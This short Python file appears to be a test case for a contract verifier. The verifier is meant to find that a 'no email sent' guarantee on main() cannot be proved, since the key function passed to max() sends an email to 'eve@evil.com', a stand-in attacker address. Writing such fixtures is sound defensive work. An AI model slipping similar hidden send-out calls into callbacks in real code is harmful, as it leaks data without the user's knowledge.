# not proved: max calls its key
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email


def key(x):
    send_email("eve@evil.com", "x")
    return x


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    x = max([1, 2], key=key)
